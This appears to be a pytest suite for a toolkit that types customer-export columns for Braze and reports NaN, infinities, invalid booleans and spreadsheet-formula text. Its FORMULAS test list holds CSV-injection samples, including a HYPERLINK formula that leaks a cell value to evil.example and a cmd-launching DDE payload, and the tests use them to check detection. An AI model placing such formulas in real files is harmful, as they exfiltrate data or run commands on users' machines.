"""Typed values, said out loud: a number column keeps its number type whatever odd values it
holds; each odd value gets a finding naming its row, its column and what is sent for it
(read as blank = exactly like an empty cell); booleans that are neither true nor false are
reported; text a spreadsheet would run as a formula is reported."""
from __future__ import annotations

import json

import numpy as np
import pandas as pd

import toolkit
from toolkit.engage.validation import MAX_ROW_FINDINGS
from toolkit.mapping import Mapping

BLANK = "read as blank, like an empty cell"
LEFT_OUT = "left out: nothing is sent for it, and a value Braze already holds is kept"


def _csv(write, column: str, cells: list[str], name: str = "shoppers.csv"):
    rows = "".join(f"use_{i},u{i},{c}\n" for i, c in enumerate(cells, start=1))
    return toolkit.load(write(name, f"key,user_id,{column}\n" + rows), computation_key="shoppers")


def _by_row(findings, code, column):
    return {f.row: f for f in findings.of(code) if f.column == column}


def test_nan_and_infinities_keep_a_number_column_numeric(write):
    export = _csv(write, "revenue", ["12.5", "nan", "inf", "-inf", "7", "NaN", "-Infinity"])
    assert export.computation("revenue")["value_type"] == "number"
    values = export.profiles["revenue"]
    assert str(values.dtype) == "Float64"
    assert values.tolist()[0] == 12.5 and values.tolist()[4] == 7
    # NaN is no value (blank); an infinity stays the number it is, for the plan to leave out
    assert values.isna().tolist() == [False, True, False, False, False, True, False]
    assert values.tolist()[2] == np.inf and values.tolist()[3] == -np.inf
    odd = _by_row(export.findings, "non_finite_number", "revenue")
    assert sorted(odd) == [2, 3, 4, 6, 7]
    assert "NaN" in odd[2].message and BLANK in odd[2].message
    assert odd[2].message == odd[6].message          # one message per kind: "nan" and "NaN"
    assert "+inf" in odd[3].message and "-inf" in odd[4].message
    assert odd[4].message == odd[7].message
    assert LEFT_OUT in odd[3].message and BLANK not in odd[3].message
    sent = Mapping.from_export(export).attribute_values(export)["revenue"].tolist()
    assert sent[0] == 12.5 and sent[4] == 7 and all(sent[i] is pd.NA for i in (1, 2, 3, 5, 6))
    assert odd[3].segment_id == "use_3" and odd[3].severity == "warning"
    assert not export.findings.of("type_drift")


def test_a_single_nan_after_a_number_is_reported(write):
    """The path where pyarrow parses the column as numbers itself ("12.5,nan")."""
    export = _csv(write, "revenue", ["12.5", "nan"])
    assert str(export.profiles["revenue"].dtype) == "Float64"
    (odd,) = export.findings.of("non_finite_number")
    assert odd.row == 2 and odd.column == "revenue" and BLANK in odd.message


def test_overflowing_number_is_infinite_and_reported(write):
    export = _csv(write, "revenue", ["1", "1e999", "2"])
    (odd,) = export.findings.of("non_finite_number")
    assert odd.row == 2 and "+inf" in odd.message and LEFT_OUT in odd.message
    assert export.profiles["revenue"].tolist()[1] == np.inf


def test_odd_values_far_down_a_large_column_are_found(write):
    cells = [str(i) for i in range(50_000)]
    cells[30_000], cells[40_000], cells[45_000] = "nan", "oops", "inf"
    export = _csv(write, "score", cells)
    assert str(export.profiles["score"].dtype) == "Float64"
    assert sorted(_by_row(export.findings, "non_finite_number", "score")) == [30_001, 45_001]
    (drift,) = export.findings.of("type_drift")
    assert drift.row == 40_001 and "'oops'" in drift.message and BLANK in drift.message


def test_text_in_a_number_column_is_reported_and_left_blank(write):
    export = _csv(write, "revenue", ["12.5", "abc", "3", "n/a"])
    assert str(export.profiles["revenue"].dtype) == "Float64"
    drift = _by_row(export.findings, "type_drift", "revenue")
    assert sorted(drift) == [2, 4] and all(BLANK in f.message for f in drift.values())
    assert "'abc'" in drift[2].message
    values = Mapping.from_export(export).attribute_values(export)["revenue"].tolist()
    assert values[0] == 12.5 and values[2] == 3 and values[1] is pd.NA and values[3] is pd.NA


def test_many_misfits_are_capped_with_a_total(write):
    cells = ["1", "2", "3"] * 400 + ["x"] * 500 + ["nan"] * 300
    export = _csv(write, "score", cells)
    drift = export.findings.of("type_drift")
    assert len(drift) == MAX_ROW_FINDINGS + 1 and "500 rows in all" in drift[-1].message
    odd = export.findings.of("non_finite_number")
    assert len(odd) == MAX_ROW_FINDINGS + 1 and "300 rows in all" in odd[-1].message


def test_a_column_read_as_text_because_of_mixed_values_says_so(write):
    export = _csv(write, "revenue", ["abc", "12.5", "xyz", "7"])
    assert export.computation("revenue")["value_type"] == "string"
    (mixed,) = export.findings.of("mixed_types")
    assert mixed.column == "revenue" and mixed.row == 2 and mixed.severity == "warning"
    assert "2 of its 4" in mixed.message and "sent as text" in mixed.message


def test_a_text_column_with_a_few_number_like_values_is_not_mixed(write):
    export = _csv(write, "plan", ["gold", "silver", "bronze", "gold", "3", "gold"])
    assert export.computation("plan")["value_type"] == "string"
    assert not export.findings.of("mixed_types")


def test_a_text_column_named_infinity_is_text(write):
    export = _csv(write, "tier", ["Infinity", "Infinity", "Gold", "Silver"])
    assert export.computation("tier")["value_type"] == "string"
    assert export.profiles["tier"].tolist() == ["Infinity", "Infinity", "Gold", "Silver"]
    assert not export.findings.of("non_finite_number")


def test_a_column_of_nan_alone_is_a_blank_number_column(write):
    export = _csv(write, "revenue", ["nan", "", "NaN"])
    assert export.computation("revenue")["value_type"] == "number"
    assert export.profiles["revenue"].isna().all()
    assert sorted(_by_row(export.findings, "non_finite_number", "revenue")) == [1, 3]


def test_names_that_spell_nan_in_a_text_column_stay_text(write):
    export = _csv(write, "first_name", ["Nan", "Ann", "Bob"])
    assert export.profiles["first_name"].tolist() == ["Nan", "Ann", "Bob"]
    assert not export.findings.of("non_finite_number")


def test_booleans_neither_true_nor_false_are_reported_with_rows(write):
    export = _csv(write, "flag", ["true", "maybe", "7", "false", "TRUE"])
    assert str(export.profiles["flag"].dtype) == "boolean"
    assert export.profiles["flag"].tolist()[0] is True
    drift = _by_row(export.findings, "type_drift", "flag")
    assert sorted(drift) == [2, 3]
    assert all("neither true nor false" in f.message and BLANK in f.message
               for f in drift.values())
    assert "'maybe'" in drift[2].message and "'7'" in drift[3].message


def test_ndjson_nan_and_infinity_are_reported(write):
    def line(user, literal):
        return ('{"type":"identify","userId":"%s","traits":{"revenue":%s},"timestamp":'
                '"2026-11-01T00:00:00Z","context":{"personas":{"computation_key":"revenue",'
                '"computation_class":"trait"}}}' % (user, literal))
    lines = [line("u1", "5"), line("u2", "NaN"), line("u3", "Infinity"), line("u4", "-Infinity"),
             line("u5", "1e400"), line("u6", "8")]
    export = toolkit.load(write("events.ndjson", "\n".join(lines) + "\n"))
    assert str(export.profiles["revenue"].dtype) == "Float64"
    odd = _by_row(export.findings, "non_finite_number", "revenue")
    assert sorted(odd) == [2, 3, 4, 5]
    assert "NaN" in odd[2].message and "+inf" in odd[3].message and "-inf" in odd[4].message
    assert export.profiles["revenue"].isna().tolist() == [False, True, False, False, False,
                                                          False]
    sent = Mapping.from_export(export).attribute_values(export)["revenue"]
    assert sent.notna().tolist() == [True, False, False, False, False, True]


def test_unformatted_csv_json_trait_nan_is_reported(write):
    text = ('key,external_ids,traits\n'
            'use_1,"{""user_id"": [""u1""]}","{""ltv"": 5}"\n'
            'use_2,"{""user_id"": [""u2""]}","{""ltv"": NaN}"\n')
    export = toolkit.load(write("shoppers.csv", text))
    (odd,) = export.findings.of("non_finite_number")
    assert odd.row == 2 and odd.column == "ltv"


def test_profiles_sync_parquet_nan_and_inf_are_reported(tmp_path):
    d = tmp_path / "ps"
    d.mkdir()
    import pyarrow as pa
    import pyarrow.parquet as pq

    # written by pyarrow itself: pandas would turn the NaN into a null on the way
    pq.write_table(pa.table({"canonical_segment_id": ["use_1", "use_2", "use_3", "use_4"],
                             "ltv": pa.array([1.5, float("nan"), None, float("inf")])}),
                   d / "profile_traits.parquet")
    pd.DataFrame({"canonical_segment_id": ["use_1", "use_2", "use_3", "use_4"],
                  "external_id_type": ["user_id"] * 4,
                  "external_id_value": ["u1", "u2", "u3", "u4"]}).to_parquet(
        d / "external_id_mapping.parquet")
    export = toolkit.load(d)
    assert str(export.profiles["ltv"].dtype) == "Float64"
    odd = _by_row(export.findings, "non_finite_number", "ltv")
    assert sorted(odd) == [2, 4]                  # row 3 is a plain null: no finding
    assert export.profiles["ltv"].isna().tolist() == [False, True, True, False]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "=1+1", "\t=cmd", "- item"]
NOT_FORMULAS = ["-5", "+3.25", "plain text", "+1 (555) 010-0100", "a=b", "-", "1e-3"]


def test_formula_like_text_is_reported_and_kept_verbatim(write):
    cells = FORMULAS + NOT_FORMULAS
    rows = "".join(f'use_{i},u{i},"{v.replace(chr(34), chr(34) * 2)}"\n'
                   for i, v in enumerate(cells, start=1))
    export = toolkit.load(write("shoppers.csv", "key,user_id,note\n" + rows),
                          computation_key="shoppers")
    assert export.profiles["note"].tolist() == cells           # data stays data
    found = _by_row(export.findings, "formula_text", "note")
    assert sorted(found) == list(range(1, len(FORMULAS) + 1))
    message = found[1].message
    assert "formula" in message and "sent to Braze as text" in message
    assert len({f.message for f in found.values()}) == 1       # one message for the kind


def test_numbers_with_a_sign_are_not_formulas(write):
    export = _csv(write, "delta", ["-5", "+3", "-0.5", "7"])
    assert export.computation("delta")["value_type"] == "number"
    assert not export.findings.of("formula_text")


def test_formula_like_column_name_is_reported(write):
    export = toolkit.load(write("shoppers.csv", 'key,user_id,"=cmd|calc"\nuse_1,u1,x\n'),
                          computation_key="shoppers")
    (f,) = export.findings.of("formula_text")
    assert f.column == "=cmd|calc" and f.row is None and "name" in f.message


def test_ndjson_formula_values_are_reported_with_their_lines(write):
    msgs = [{"type": "identify", "userId": f"u{i}", "traits": {"note": v},
             "timestamp": "2026-11-01T00:00:00Z",
             "context": {"personas": {"computation_key": "note", "computation_class": "trait"}}}
            for i, v in enumerate(["fine", "=1+1", "ok"], start=1)]
    export = toolkit.load(write("e.ndjson", "".join(json.dumps(m) + "\n" for m in msgs)))
    (f,) = export.findings.of("formula_text")
    assert f.row == 2 and f.column == "note"


def test_typing_stays_vectorised_on_a_large_column(write):
    """No per-row Python loop: 300k values with odd ones scattered type in well under a second
    of Python-level work (a loop over them would be far slower)."""
    import time

    n = 300_000
    cells = np.char.mod("%d", np.arange(n)).astype(object)
    cells[::1000] = "nan"
    cells[5::1000] = "=1+2"  # text in a number column: drift
    path = write("shoppers.csv", "key,user_id,score\n" + "".join(
        f"use_{i},u{i},{c}\n" for i, c in enumerate(cells)))
    started = time.perf_counter()
    export = toolkit.load(path, computation_key="shoppers")
    assert time.perf_counter() - started < 10
    assert str(export.profiles["score"].dtype) == "Float64"
    assert "300 rows in all" in export.findings.of("non_finite_number")[-1].message
